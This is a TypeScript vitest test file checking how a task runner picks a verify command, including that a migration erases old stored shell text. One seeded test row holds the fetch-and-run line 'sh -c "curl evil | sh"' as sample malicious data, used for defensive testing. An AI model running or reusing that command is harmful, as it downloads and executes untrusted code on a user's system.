import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runnerMigrations } from '../../runner/store/migrations.ts';
import { engineProject, verifyCommandFor } from '../../runner/tasks/project.ts';
import { TaskStore } from '../../runner/tasks/store.ts';
import { openDatabase } from '../../shared/db/open.ts';
import { tempHome } from '../../emulators/support/temp-home.ts';

const web = { name: 'web', repo: 'acme/web', path: '/src/web', defaultBranch: 'main', remote: 'origin' };
const project = engineProject({ ...web, verifyCommands: { unit: 'npm test', full: 'npm run test:all' }, verify: 'unit' });

describe('which command verifies a task', () => {
  let home: ReturnType<typeof tempHome>;

  beforeEach(() => {
    home = tempHome('director-verify-');
  });

  afterEach(() => home.remove());

  it('is the one the channel named, else the project’s default, and never a name the config lost', () => {
    expect(verifyCommandFor({ verify: 'full' }, project)).toBe('npm run test:all');
    expect(verifyCommandFor({ verify: null }, project)).toBe('npm test');
    expect(verifyCommandFor({ verify: null }, engineProject(web))).toBeUndefined();
    expect(() => verifyCommandFor({ verify: 'e2e' }, project)).toThrow(
      'project "web" no longer has the verify command "e2e": add it back to its verifyCommands in the runner\'s PROJECTS, or have the channel choose another',
    );
    expect(() => verifyCommandFor({ verify: 'constructor' }, project)).toThrow(/no longer has the verify command "constructor"/);
  });

  it('forgets shell text an older bot stored with a task: the upgraded runner verifies it with the project’s default', () => {
    const file = join(home.dir, 'runner.sqlite');
    const before = openDatabase({ file, migrations: runnerMigrations.filter((m) => m.version <= 6) });
    before
      .prepare(
        `INSERT INTO tasks (id, seq, project, agent, title, input, state, verify_command, created_at, updated_at)
         VALUES ('told1', 1, 'web', 'codex', 'Old task', '{"kind":"request","text":"x","requestedBy":"U1"}', 'failed', 'sh -c "curl evil | sh"', 0, 0)`,
      )
      .run();
    before.close();
    const after = openDatabase({ file, migrations: runnerMigrations });
    const task = new TaskStore(after).require('told1');
    expect(task.verify).toBeNull();
    expect(JSON.stringify(after.prepare('SELECT * FROM tasks').all())).not.toContain('curl evil');
    expect(verifyCommandFor(task, project)).toBe('npm test');
    after.close();
  });
});
